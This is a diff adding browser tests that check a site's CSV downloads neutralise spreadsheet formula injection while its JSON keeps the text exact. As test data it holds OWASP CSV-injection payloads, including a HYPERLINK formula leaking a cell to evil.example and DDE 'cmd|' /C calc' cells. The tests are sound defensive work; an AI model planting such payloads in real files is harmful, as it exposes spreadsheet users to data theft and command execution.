@@ -2,6 +2,7 @@
 // every page shows that text as text, runs none of it, and builds no link from it.
 import { describe, expect, it } from "vitest";
 import type { Browser } from "playwright-core";
+import { parseCsv } from "../../src/data/csv.ts";
 import { crawl, type CrawlResult, withBrowserAndSite } from "../support/browser.ts";
 import type { StaticSite } from "../support/server.ts";
 import { HOSTILE_DIST } from "./global-setup.ts";
@@ -67,5 +68,48 @@ describe("data text containing HTML and script", () => {
     expect(label).toContain('<script>alert("xss-headline")</script>');
     expect(await page.locator("svg.timeline-svg script").count()).toBe(0);
     await page.close();
+  });
+});
+
+// OWASP's CSV-injection examples sit in the hostile tables (a headline, a figure's label, a source's
+// title, an actor's role). Every CSV the site serves must hand them to a spreadsheet as text.
+describe("formula cells in the downloads", () => {
+  const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Rubio and Lavrov hold a phone call")';
+  const cells = async (path: string) => {
+    const context = await browser.newContext();
+    const response = await context.request.get(site.root + path);
+    expect(response.status(), path).toBe(200);
+    const text = await response.text();
+    await context.close();
+    return parseCsv(text).records.map((r) => r.cells.map((c) => c.value));
+  };
+
+  it("are neutralised in every CSV the site links to: /data/ tables and chart downloads", async () => {
+    const csvs = crawled.files.map((f) => new URL(f.url).pathname).filter((p) => p.endsWith(".csv"));
+    expect(csvs.filter((p) => p.includes("/data/")).length).toBe(15);
+    expect(csvs.filter((p) => p.includes("/charts/")).length).toBeGreaterThan(5);
+    for (const path of new Set(csvs)) {
+      for (const cell of (await cells(path.slice(1))).flat()) {
+        expect(/^[=+\-@\t\r]/.test(cell) && !/^[+-]?[\d.]+(?:[eE][+-]?\d+)?$/.test(cell), `${path}: ${cell}`).toBe(false);
+      }
+    }
+  });
+
+  it("keep their text after the apostrophe, in the table and in the chart that draws them", async () => {
+    expect((await cells("data/events.csv")).flat()).toContain(`'${HYPERLINK}`);
+    expect((await cells("data/figures.csv")).flat()).toContain("'+cmd|' /C calc'!A0");
+    expect((await cells("data/sources.csv")).flat()).toContain("'@SUM(1+9)*cmd|' /C calc'!A0");
+    expect((await cells("data/actors.csv")).flat()).toContain("'-2+3+cmd|' /C calc'!A0");
+    expect((await cells("charts/timeline.csv")).flat()).toContain(`'${HYPERLINK}`);
+    expect((await cells("charts/minerals-money.csv")).flat()).toContain("'+cmd|' /C calc'!A0");
+  });
+
+  it("stay exact in the JSON downloads", async () => {
+    const context = await browser.newContext();
+    const events = await (await context.request.get(site.root + "data/events.json")).json();
+    expect(events.find((e: { id: string }) => e.id === "evt-2025-02-15-rubio-lavrov-call").headline).toBe(HYPERLINK);
+    const figures = await (await context.request.get(site.root + "data/figures.json")).json();
+    expect(figures.find((f: { id: string }) => f.id === "fig-urif-dfc-seed-capital").label).toBe("+cmd|' /C calc'!A0");
+    await context.close();
   });
 });
